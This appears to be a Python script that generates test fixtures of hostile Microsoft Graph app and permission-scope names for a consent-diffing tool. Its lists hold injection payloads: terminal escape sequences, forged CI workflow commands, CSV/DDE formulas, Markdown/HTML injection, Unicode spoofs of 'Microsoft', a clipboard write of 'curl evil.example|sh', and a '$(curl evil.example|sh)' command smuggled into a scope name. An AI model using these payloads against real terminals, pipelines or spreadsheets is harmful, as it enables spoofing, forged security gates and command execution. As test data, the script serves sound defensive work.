#!/usr/bin/env python3
"""Writes Tests/Fixtures/hostile/: a tenant export whose apps are named the way an attacker would name them.

Week 1 (2026-11-01) holds Microsoft Graph and one plain app; week 2 (2026-11-08) adds one app per hostile
name, each consented tenant-wide to CallDelegation.ReadWrite (admin consent per the Graph service principal) (so each is an admin-consent holding, a new one in
`diff tenant`), and a hostile third-party API whose published scope is a formula. Every case is listed in
HOSTILE_NAMES with what it attacks; Tests/Fixtures/hostile/README.md repeats the list.
"""
import json, pathlib, sys

TENANT = "3c1b5d2e-7a64-4b0f-9d2c-5e8f1a2b3c4d"
VENDOR_TENANT = "9e8d7c6b-5a49-4382-b1a0-f9e8d7c6b5a4"
GRAPH_SP = "0a0a0a0a-0000-4000-8000-000000000001"
GRAPH_APP = "00000003-0000-0000-c000-000000000000"

# (name, what it attacks)
HOSTILE_NAMES = [
    ("Clear \u001b[2J\u001b[H Screen", "ESC[2J wipes the terminal, ESC[H homes the cursor"),
    ("Cursor \u001b[1A\u001b[2K Up", "moves up one line and erases it: hides the row above"),
    ("Clip \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007 Board", "OSC 52 writes 'curl evil.example|sh' to the clipboard"),
    ("Link \u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\ Planted", "OSC 8 plants a hyperlink"),
    ("Unterminated \u001b]0;title", "an OSC never ended swallows what follows"),
    ("CSI \u009b2J Eight-bit", "C1 CSI (U+009B), the 8-bit form of ESC["),
    ("Lone\rCR Overwrite", "a lone CR returns to the line's start and overwrites it"),
    ("Forge\n::error title=All clear::no findings", "LF forges a line; GitHub Actions reads ::error"),
    ("::add-mask::secret-finding", "a GitHub Actions workflow command at a line's start"),
    ("##vso[task.setvariable variable=gate]pass", "an Azure Pipelines logging command anywhere in a line"),
    ("Markdown\r# All clear: no new admin consents\r![x](http://evil.example/p.png) [click](http://evil.example) www.evil.example | pipe | <img src=x onerror=alert(1)>",
     "lone CRs end the Markdown table; a heading, a remote image, links, a pipe and HTML follow"),
    ("=cmd|' /C calc'!A0", "a DDE formula in CSV"),
    ("=HYPERLINK(\"http://evil.example\",\"Open\")", "a formula link in CSV"),
    ("+1+1 Plus", "a formula starting with +"),
    ("-2+3 Minus", "a formula starting with -"),
    ("@SUM(1+1) At", "a formula starting with @"),
    ("\tTab Start", "a leading TAB starts a formula in some spreadsheets"),
    ("\rReturn Start", "a leading CR starts a formula in some spreadsheets"),
    ("Micro\u202etfos Graph", "RLO: draws as 'Microsoft Graph' reversed in part"),
    ("Micro\u200bsoft Graph", "a zero-width space inside 'Microsoft'"),
    ("Micr\u043esoft Graph", "a Cyrillic o inside 'Microsoft'"),
    ("Del\u007fete", "DEL"),
    ("Tag\U000e0041\U000e0042 Smuggle", "tag characters: invisible text"),
    ("App ##[error]boom mid-line", "GitHub Actions' older command syntax, read anywhere in a line"),
    ("\u00a0::add-mask::thirdParty", "a workflow command after a no-break space (.NET's TrimStart drops it)"),
    ("\u3000::error title=Gate passed::no findings", "a workflow command after an ideographic space"),
]

def guid(n):
    return f"0b0b0b0b-0000-4000-8000-{n:012x}"

def app_guid(n):
    return f"0c0c0c0c-0000-4000-8000-{n:012x}"

def page(context, value):
    return {"@odata.context": f"https://graph.microsoft.com/v1.0/$metadata#{context}", "value": value}

def sp(id, app_id, name, owner, publisher=None, scopes=None):
    return {"id": id, "appId": app_id, "displayName": name, "appOwnerOrganizationId": owner,
            "servicePrincipalType": "Application", "accountEnabled": True,
            "verifiedPublisher": {"displayName": publisher, "verifiedPublisherId": None},
            "oauth2PermissionScopes": scopes or [], "appRoles": []}

def grant(n, client, resource, scope):
    return {"id": f"hostile-grant-{n}", "clientId": client, "consentType": "AllPrincipals",
            "principalId": None, "resourceId": resource, "scope": scope}

def write(folder, name, document):
    (folder / name).write_text(json.dumps(document, ensure_ascii=True, indent=1) + "\n")

def main(folder):
    folder.mkdir(parents=True, exist_ok=True)
    write_catalog(folder)
    graph = sp(GRAPH_SP, GRAPH_APP, "Microsoft Graph", "f8cdef31-a31e-4b4a-93e4-5f571e91255a")
    plain = sp(guid(0), app_guid(0), "Plain Reporting App", VENDOR_TENANT, "Fabrikam")
    evil_api = sp(guid(999), app_guid(999), "Evil API", VENDOR_TENANT, "Micro\u202etfos Corporation", scopes=[{
        "adminConsentDescription": "Line one\n::error::forged\u001b[2J", "adminConsentDisplayName": "=HYPERLINK(\"http://evil.example\")",
        "id": "0d0d0d0d-0000-4000-8000-000000000001", "isEnabled": True, "type": "Admin",
        "userConsentDescription": None, "userConsentDisplayName": None, "value": "=HYPERLINK(\"http://evil.example\")"}])
    hostile = [sp(guid(n), app_guid(n), name, VENDOR_TENANT, "Micro\u202etfos Corporation" if n == 1 else "Vendor")
               for n, (name, _) in enumerate(HOSTILE_NAMES, start=1)]
    organization = page("organization", [{"id": TENANT, "displayName": "Hostile Test", "tenantType": "AAD"}])
    for day, sps, grants in [
        ("2026-11-01", [graph, plain], [grant(0, guid(0), GRAPH_SP, "User.Read")]),
        ("2026-11-08", [graph, plain, evil_api] + hostile,
         [grant(0, guid(0), GRAPH_SP, "User.Read")]
         + [grant(n, guid(n), GRAPH_SP, "CallDelegation.ReadWrite") for n in range(1, len(HOSTILE_NAMES) + 1)]
         + [grant(999, guid(1), guid(999), "=HYPERLINK(\"http://evil.example\")")]),
    ]:
        write(folder, f"organization-{day}.json", organization)
        write(folder, f"servicePrincipals-{day}.json", page("servicePrincipals", sps))
        write(folder, f"oauth2PermissionGrants-{day}.json", page("oauth2PermissionGrants", grants))
        write(folder, f"appRoleAssignments-{day}.json", page("appRoleAssignments", []))

# A third-party API's own catalog (a service principal file): scope names and texts an attacker chose.
HOSTILE_SCOPES = [
    ("Evil.\u001b[2J.Read", "ESC[2J inside a permission's name"),
    ("=HYPERLINK(\"http://evil.example\")", "a formula as a permission's name"),
    ("Files\u202e.Read", "RLO inside a permission's name"),
    ("Mail.Read\"$(curl evil.example|sh)", "a quote and $( ) that would run when a token example is pasted"),
]

def write_catalog(folder):
    scopes = [{"adminConsentDescription": f"Evil scope {n}\n::error::forged\r# All clear\u001b]52;c;Y3VybA==\u0007 | <b>x</b> [y](http://evil.example)",
               "adminConsentDisplayName": f"Evil {n} \u001b[1A", "id": f"0e0e0e0e-0000-4000-8000-{n:012x}", "isEnabled": True,
               "type": "Admin", "userConsentDescription": "=cmd|' /C calc'!A0", "userConsentDisplayName": "@SUM(1)", "value": value}
              for n, (value, _) in enumerate(HOSTILE_SCOPES, start=1)]
    document = sp(guid(999), app_guid(999), "Evil API", VENDOR_TENANT, "Vendor", scopes=scopes)
    (folder / "catalog").mkdir(exist_ok=True)
    write(folder / "catalog", "evil-api-servicePrincipal-2026-11-02.json", document)

if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "Tests/Fixtures/hostile"))
